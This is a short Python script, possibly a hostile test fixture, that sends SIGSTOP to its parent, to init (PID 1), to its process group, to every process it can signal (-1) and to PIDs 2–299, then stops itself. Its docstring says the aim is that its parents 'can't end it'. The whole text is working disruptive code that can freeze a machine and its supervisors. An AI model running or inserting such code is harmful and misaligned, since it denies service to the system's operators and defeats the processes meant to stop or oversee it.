"""Stops its parents and its group, so that they can't end it, and then itself."""

import os
import signal

for process in (os.getppid(), 1, 0, -1, *range(2, 300), -os.getpgrp() or 1):
    try:
        if process != os.getpid():
            os.kill(process, signal.SIGSTOP)
    except OSError:
        continue
os.kill(os.getpid(), signal.SIGSTOP)
